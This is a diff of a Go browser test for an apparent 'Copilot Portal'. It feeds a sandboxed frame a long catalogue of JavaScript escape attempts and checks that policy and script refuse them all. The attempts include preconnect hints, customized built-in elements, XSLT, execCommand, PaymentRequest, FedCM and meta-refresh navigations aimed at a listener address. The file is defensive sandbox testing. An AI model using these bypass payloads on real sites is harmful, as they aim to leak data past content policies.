@@ -2,8 +2,19 @@ package assets_test
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/base64"
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"regexp"
+	"slices"
+	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -48,6 +59,37 @@ const evil = `(() => {
   attempt("disarmed", () => { Set.prototype.has = () => false; String.prototype.split = () => ["div"]; String.prototype.toLowerCase = () => "div"; const e = add("link", { rel: "preconnect", href: far("disarmed") }); });
   attempt("unsanitized", () => { const d = document.createElement("div"); document.body.append(d); d.setHTML('<link rel="preconnect" href="' + far("unsanitized") + '">', { sanitizer: {} }); });
   attempt("sanitized", () => document.body.appendChild(document.createElement("div")).setHTML('<link rel="preconnect" href="' + far("sanitized") + '">'));
+  const hint = (element, name) => { element.rel = "preconnect"; element.href = far(name); document.head.append(element); return element.localName; };
+  attempt("built-in link", () => { class L extends HTMLLinkElement {} customElements.define("x-l", L, { extends: "link" }); return hint(new L(), "built-in"); });
+  attempt("built-in frame", () => { class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" }); const f = new F(); f.src = far("built-in"); document.body.append(f); });
+  attempt("registry of the document", () => { class L extends HTMLLinkElement {} document.customElementRegistry.define("x-r", L, { extends: "link" }); return hint(new L(), "registry"); });
+  attempt("registry of an element", () => { class L extends HTMLLinkElement {} document.body.customElementRegistry.define("x-s", L, { extends: "link" }); return hint(new L(), "registry"); });
+  attempt("own registry", () => { class L extends HTMLLinkElement {} new CustomElementRegistry().define("x-o", L, { extends: "link" }); return hint(new L(), "registry"); });
+  attempt("document", () => hint(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link", null).documentElement, "document"));
+  attempt("document of HTML", () => hint(document.implementation.createHTMLDocument("").createElement("link"), "document"));
+  attempt("stylesheet", () => {
+    const space = "http://www.w3.org/1999/XSL/Transform";
+    const sheet = document.implementation.createDocument(space, "xsl:stylesheet", null);
+    sheet.documentElement.setAttribute("version", "1.0");
+    const template = sheet.documentElement.appendChild(sheet.createElementNS(space, "xsl:template"));
+    template.setAttribute("match", "/");
+    const made = template.appendChild(sheet.createElementNS(space, "xsl:element"));
+    made.setAttribute("name", "link");
+    made.setAttribute("namespace", "http://www.w3.org/1999/xhtml");
+    const processor = new XSLTProcessor();
+    processor.importStylesheet(sheet);
+    return hint(processor.transformToFragment(sheet, document).firstChild, "stylesheet");
+  });
+  attempt("other names", () => hint(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"), "names"));
+  attempt("what is there", () => document.querySelector("link, meta, base, iframe").localName);
+  attempt("nested", () => add("iframe", { srcdoc: '<link rel="preconnect" href="' + far("nested") + '">' }));
+  attempt("command", () => { document.body.contentEditable = "true"; document.body.focus(); return document.execCommand("insertHTML", false, '<link rel="preconnect" href="' + far("command") + '">'); });
+  attempt("any markup", () => Object.getOwnPropertyNames(Element.prototype).filter((name) => /HTML/.test(name)).map((name) => { try { document.body.appendChild(document.createElement("div"))[name]('<link rel="preconnect" href="' + far("markup") + '">', { sanitizer: {} }); } catch { return ""; } }).join());
+  attempt("hints on", () => { add("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }); add("a", { href: far("hints"), textContent: "x" }); });
+  attempt("instruction", () => document.insertBefore(document.createProcessingInstruction("xml-stylesheet", 'type="text/css" href="' + far("instruction") + '"'), document.documentElement).target);
+  attempt("payment", () => new PaymentRequest([{ supportedMethods: far("payment") }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment());
+  attempt("identity", () => navigator.credentials.get({ identity: { providers: [{ configURL: far("identity"), clientId: "x" }] } }));
+  attempt("later", () => fetchLater(far("later"), { activateAfter: 0 }).activated);
   attempt("write", () => document.write("<img src=" + far("write") + ">"));
   attempt("script", () => add("script", { src: far("script") }));
   attempt("speculation", () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [far("speculation")] }] }) }));
@@ -79,6 +121,7 @@ var leaving = map[string]string{
 	"location": `location.href = "http://ADDRESS/leave"`,
 	"replace":  `location.replace("http://ADDRESS/leave")`,
 	"link":     `{ const a = document.createElement("a"); a.href = "http://ADDRESS/leave"; document.body.append(a); addEventListener("click", (e) => e.stopImmediatePropagation(), true); a.click(); }`,
+	"built-in": `{ class M extends HTMLMetaElement {} customElements.define("x-m", M, { extends: "meta" }); const m = new M(); m.httpEquiv = "refresh"; m.content = "0;url=http://ADDRESS/leave"; document.head.append(m); }`,
 	"refresh":  `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://ADDRESS/leave"; document.head.append(m); }`,
 	"portal":   `location.href = new URL("/api/copilot/session/list", location.href).href`,
 	"data":     `location.href = "data:text/html,<img src=http://ADDRESS/leave>"`,
@@ -102,58 +145,151 @@ const begin = `new Promise((done) => {
   document.body.append(frame);
 })`
 
+// hollow stands in for the frame's own script: it only runs what it is given.
+const hollow = `const policy = trustedTypes.createPolicy("portal", { createScriptURL: (url) => url });
+addEventListener("message", ({ data }) => {
+	if (data.type !== "show") return;
+	const script = document.createElement("script");
+	script.src = policy.createScriptURL(URL.createObjectURL(new Blob([data.code], { type: "text/javascript" })));
+	document.body.append(script);
+});
+parent.postMessage({ type: "ready" }, "*");`
+
+var scriptOfFrame = regexp.MustCompile(`(?s)<script>.*</script>`)
+
+// byHeadersAlone takes the frame's own script away.
+func byHeadersAlone(r *http.Response) error {
+	document, err := io.ReadAll(r.Body)
+	if err != nil {
+		return err
+	}
+	sum := sha256.Sum256([]byte(hollow))
+	hash := regexp.MustCompile(`'sha256-[^']*'`).ReplaceAllString(r.Header.Get("Content-Security-Policy"), "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'")
+	r.Header.Set("Content-Security-Policy", hash)
+	text := scriptOfFrame.ReplaceAllLiteralString(string(document), "<script>"+hollow+"</script>")
+	r.Body, r.ContentLength = io.NopCloser(strings.NewReader(text)), int64(len(text))
+	r.Header.Set("Content-Length", strconv.Itoa(len(text)))
+	return nil
+}
+
+// byPolicyAndScript takes the headers away that only some browsers know.
+func byPolicyAndScript(r *http.Response) error {
+	for _, name := range []string{"Connection-Allowlist", "Permissions-Policy", "X-DNS-Prefetch-Control"} {
+		r.Header.Del(name)
+	}
+	return nil
+}
+
+// through serves a portal with another answer in place of the frame.
+func through(t *testing.T, portal *portaltest.Portal, change func(*http.Response) error) string {
+	t.Helper()
+	target, err := url.Parse(portal.URL)
+	require.NoError(t, err)
+	s := httptest.NewServer(&httputil.ReverseProxy{
+		Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(target); r.Out.Header.Del("Accept-Encoding") },
+		ModifyResponse: func(r *http.Response) error {
+			if !strings.HasSuffix(r.Request.URL.Path, "/frame.html") {
+				return nil
+			}
+			return change(r)
+		},
+	})
+	t.Cleanup(s.Close)
+	return s.URL
+}
+
+// Each layer of the frame holds without the other.
 func TestHostileCodeStaysInItsFrame(t *testing.T) {
 	t.Parallel()
 	chromium, portal := portaltest.StartChromium(t), portaltest.Start(t, portaltest.Options{Args: []string{"--demo"}})
-	address, came, spoke := listener(t)
-	first := chromium.Open(t, "about:blank")
-	tab, end := chromedp.NewContext(first.Context, chromedp.WithNewBrowserContext()) // its console tells of all that is refused
-	defer end()
-	require.NoError(t, chromedp.Do(tab))
-	ctx, cancel := context.WithTimeout(tab, 2*time.Minute)
-	defer cancel()
-	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(portal.URL+"/#/status")))
-	run := func(code string) {
-		raw, err := json.Marshal(strings.ReplaceAll(code, "ADDRESS", address))
-		require.NoError(t, err)
-		shown, err := chromedp.Run(ctx, chromedp.Evaluate[bool](strings.Replace(begin, "CODE", string(raw), 1), chromedp.EvalAwaitPromise))
-		require.NoError(t, err)
-		require.True(t, shown)
+	for name, frame := range map[string]struct {
+		url     string
+		refused []string // what its script refuses besides the policy
+		leaves  bool     // nothing keeps a navigation from connecting
+	}{
+		"as it is": {portal.URL, refusedByScript, false},
+		"by its headers alone, in a browser that knows them": {through(t, portal, byHeadersAlone), nil, false},
+		"by policy and script, in a browser that does not":   {through(t, portal, byPolicyAndScript), refusedByScript, true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			h := openHostile(t, chromium, frame.url)
+			h.run(evil)
+			tried := h.tried(frame.url)
+			require.Len(t, tried, 74, "all of it was tried: %v", tried)
+			for _, name := range slices.Concat(refusedByPolicy, frame.refused) {
+				assert.Contains(t, tried[name], "refused", name)
+			}
+			h.run("globalThis.App = () => null") // what waited for the end of the frame has had its time
+			assert.Zero(t, h.came.Load(), "nobody has even connected: %v", tried)
+			for name, code := range leaving {
+				h.run(code)
+				assert.Zero(t, h.spoke.Load(), name)
+				if !frame.leaves {
+					assert.Zero(t, h.came.Load(), name)
+				}
+			}
+			title, err := chromedp.Run(h.tab, chromedp.Evaluate[string](`document.title + " " + localStorage.length + " " + location.pathname`))
+			require.NoError(t, err)
+			assert.Contains(t, title, "Copilot Portal 0 /")
+			_ = chromedp.Do(h.tab, chromedp.Navigate("http://"+h.address+"/")) // which closes the connection
+			assert.NotZero(t, h.spoke.Load(), "who comes is counted")
+		})
 	}
-	run(evil)
-	tried := triedIn(ctx, t)
-	require.Len(t, tried, 56, "all of it was tried: %v", tried)
-	for _, name := range []string{"eval", "function", "timer", "parent", "local", "session", "cookie", "worker", "service", "policy", "second policy", "peer", "write", "parse", "top", "unsanitized"} {
-		assert.Contains(t, tried[name], "refused", name)
-	}
-	run("globalThis.App = () => null") // what waited for the end of the frame has had its time
-	assert.Equal(t, "div", tried["two names"])
-	assert.Zero(t, came.Load(), "nobody has even connected")
-	for name, code := range leaving {
-		run(code)
-		assert.Zero(t, spoke.Load(), name) // Chromium connects before it asks the policy of the page, and then says nothing
-	}
-	title, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title + " " + localStorage.length + " " + location.pathname`))
-	require.NoError(t, err)
-	assert.Contains(t, title, "Copilot Portal 0 /")
-	_ = chromedp.Do(ctx, chromedp.Navigate("http://"+address+"/")) // which closes the connection
-	assert.NotZero(t, spoke.Load(), "who comes is counted")
 }
 
-// triedIn reads what came of the attempts.
-func triedIn(tab context.Context, t *testing.T) map[string]string {
+var (
+	refusedByPolicy = []string{"eval", "function", "timer", "parent", "local", "session", "cookie", "worker", "service", "policy", "second policy", "write", "parse", "top", "payment", "identity"}
+	refusedByScript = []string{"peer", "later", "unsanitized", "built-in link", "built-in frame", "registry of the document", "registry of an element", "own registry", "document", "stylesheet", "what is there"}
+)
+
+// hostile is a tab in which frames get code that no check has seen, and somebody who must hear nothing of it.
+type hostile struct {
+	*testing.T
+	tab         context.Context //nolint:containedctx // chromedp keeps the tab in it
+	address     string
+	came, spoke *atomic.Int32
+}
+
+func openHostile(t *testing.T, chromium *portaltest.Chromium, url string) *hostile {
 	t.Helper()
-	all, err := chromedp.Targets(tab)
-	require.NoError(t, err)
+	h := &hostile{T: t}
+	h.address, h.came, h.spoke = listener(t)
+	first := chromium.Open(t, "about:blank")
+	tab, end := chromedp.NewContext(first.Context, chromedp.WithNewBrowserContext()) // its console tells of all that is refused
+	t.Cleanup(end)
+	require.NoError(t, chromedp.Do(tab))
+	ctx, cancel := context.WithTimeout(tab, 3*time.Minute)
+	t.Cleanup(cancel)
+	h.tab = ctx
+	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(url+"/#/status")))
+	return h
+}
+
+// run gives code to a new frame.
+func (h *hostile) run(code string) {
+	h.Helper()
+	raw, err := json.Marshal(strings.ReplaceAll(code, "ADDRESS", h.address))
+	require.NoError(h, err)
+	shown, err := chromedp.Run(h.tab, chromedp.Evaluate[bool](strings.Replace(begin, "CODE", string(raw), 1), chromedp.EvalAwaitPromise))
+	require.NoError(h, err)
+	require.True(h, shown)
+}
+
+// tried reads what came of the attempts.
+func (h *hostile) tried(portal string) map[string]string {
+	h.Helper()
+	all, err := chromedp.Targets(h.tab)
+	require.NoError(h, err)
 	for _, one := range all {
-		if one.Type == "iframe" && strings.Contains(one.URL, "/frame.html") {
-			frame, _ := chromedp.NewContext(tab, chromedp.WithTargetID(one.TargetID)) // ends with the tab
+		if one.Type == "iframe" && strings.HasPrefix(one.URL, strings.TrimSuffix(portal, "/")) {
+			frame, _ := chromedp.NewContext(h.tab, chromedp.WithTargetID(one.TargetID)) // ends with the tab
 			tried, err := chromedp.Run(frame, chromedp.Evaluate[map[string]string](`globalThis.tried ?? {}`))
-			require.NoError(t, err)
+			require.NoError(h, err)
 			return tried
 		}
 	}
-	require.Fail(t, "there is no frame", "%v", all)
+	require.Fail(h, "there is no frame", "%v", all)
 	return nil
 }
 
